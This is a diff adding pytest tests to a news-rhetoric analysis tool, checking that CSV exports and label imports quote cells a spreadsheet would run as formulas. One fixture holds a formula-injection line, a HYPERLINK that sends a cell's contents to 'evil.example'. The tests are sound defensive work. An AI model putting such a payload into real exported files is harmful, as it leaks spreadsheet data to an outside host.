@@ -2,6 +2,7 @@
 
 import csv
 import json
+import re
 import subprocess
 import sys
 
@@ -148,3 +149,92 @@ def test_status_names_project_champion_audit_store_and_runs(project, ran):
     out = result.stdout
     assert f"project: {project.resolve()}" in out and "champion: " in out and "audit: " in out
     assert "5 articles, 124 sentences" in out and "completed" in out and "error rates: " in out
+
+
+FORMULA_ARTICLE = """Sanctions row deepens
+
+=HYPERLINK("http://evil.example/?x="&A1,"Click") said the minister about the illegal sanctions on Monday.
+
+@RT_com reported that the unilateral sanctions are illegal and must be lifted at once.
+
+-2 percent is what the economy shrank under the illegal sanctions, officials said.
+
++1 for peace talks between Russia and Ukraine, the envoy wrote on Tuesday.
+"""
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _opens_as_formula(cell: str) -> bool:
+    return cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", cell)
+
+
+def _cells(path) -> list[list[str]]:
+    with open(path, newline="", encoding="utf-8") as handle:
+        return list(csv.reader(handle))
+
+
+@pytest.fixture(scope="module")
+def formulas(tmp_path_factory):
+    """A project, run once, with an article whose sentences, outlet and title a spreadsheet would run as formulas."""
+    project = make_project(tmp_path_factory.mktemp("formulas"))
+    articles = project / "articles"
+    articles.mkdir()
+    (articles / "formula.txt").write_text(FORMULA_ARTICLE, encoding="utf-8")
+    (articles / "manifest.csv").write_text("file,published,outlet,title,url\n"
+                                           "formula.txt,2024-03-01,@Formula News,=Sanctions row deepens,\n",
+                                           encoding="utf-8")
+    done = rhetoric(project, "run", "--source", "articles")
+    assert done.returncode == 0, done.stderr
+    return project
+
+
+@pytest.mark.parametrize("command", [["export", "sentences"], ["export", "trends", "--by", "outlet"],
+                                     ["label", "suggest", "-n", "1000"], ["label", "audit", "-n", "1000"]],
+                         ids=lambda c: " ".join(c[:2]))
+def test_csv_cells_that_open_as_formulas_get_a_quote_unless_raw(formulas, command):
+    safe, raw = formulas / "safe.csv", formulas / "raw.csv"
+    for out, extra in ((safe, []), (raw, ["--raw"])):
+        done = rhetoric(formulas, *command, "--out", str(out), *extra)
+        assert done.returncode == 0, done.stderr
+    safe_rows, raw_rows = _cells(safe), _cells(raw)
+    assert safe_rows[0] == raw_rows[0] and len(safe_rows) == len(raw_rows)  # same columns in the same order
+    risky = [cell for row in raw_rows[1:] for cell in row if _opens_as_formula(cell)]
+    assert "@Formula News" in risky  # --raw writes them as they are
+    for raw_row, safe_row in zip(raw_rows[1:], safe_rows[1:]):
+        assert safe_row == [f"'{c}" if _opens_as_formula(c) else c for c in raw_row]
+
+
+def test_a_neutralised_suggestion_reviewed_into_labels_reads_back_as_the_stored_sentence(formulas):
+    from rhetoric.labels import load_frames, load_labels
+
+    out, raw = formulas / "suggest.csv", formulas / "suggest-raw.csv"
+    assert rhetoric(formulas, "label", "suggest", "-n", "1000", "--out", str(out)).returncode == 0
+    assert rhetoric(formulas, "label", "suggest", "-n", "1000", "--out", str(raw), "--raw").returncode == 0
+    rows = [r for r in csv.DictReader(out.open(encoding="utf-8")) if r["outlet"] == "'@Formula News"]
+    stored = sorted(r["text"] for r in csv.DictReader(raw.open(encoding="utf-8")) if r["outlet"] == "@Formula News")
+    assert {r["text"][:3] for r in rows} >= {"'=H", "'@R", "'-2", "'+1"}
+    reviewed = formulas / "labels" / "reviewed_formulas.csv"
+    with reviewed.open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows({**r, "origin": "reviewed"} for r in rows)
+    try:
+        labels_dir = formulas / "labels"
+        loaded = load_labels(labels_dir, load_frames(labels_dir))
+    finally:
+        reviewed.unlink()
+    mine = loaded[loaded["file"] == "labels/reviewed_formulas.csv"]
+    assert sorted(mine["text"]) == stored and len(stored) == 5
+    assert any(t.startswith('=HYPERLINK("http://evil.example/') for t in mine["text"])
+    assert set(mine["outlet"]) == {"@Formula News"}
+
+
+def test_label_import_quotes_formula_text_unless_raw(project):
+    export = project / "doccano.jsonl"
+    export.write_text(json.dumps({"text": "=1+1 said the envoy about peace talks.", "label": ["peace_talks"]}) + "\n",
+                      encoding="utf-8")
+    safe = rhetoric(project, "label", "import", str(export))
+    raw = rhetoric(project, "label", "import", str(export), "--raw")
+    assert safe.returncode == raw.returncode == 0, safe.stderr + raw.stderr
+    assert safe.stdout.splitlines()[1].startswith("'=1+1 said the envoy")
+    assert raw.stdout.splitlines()[1].startswith("=1+1 said the envoy")
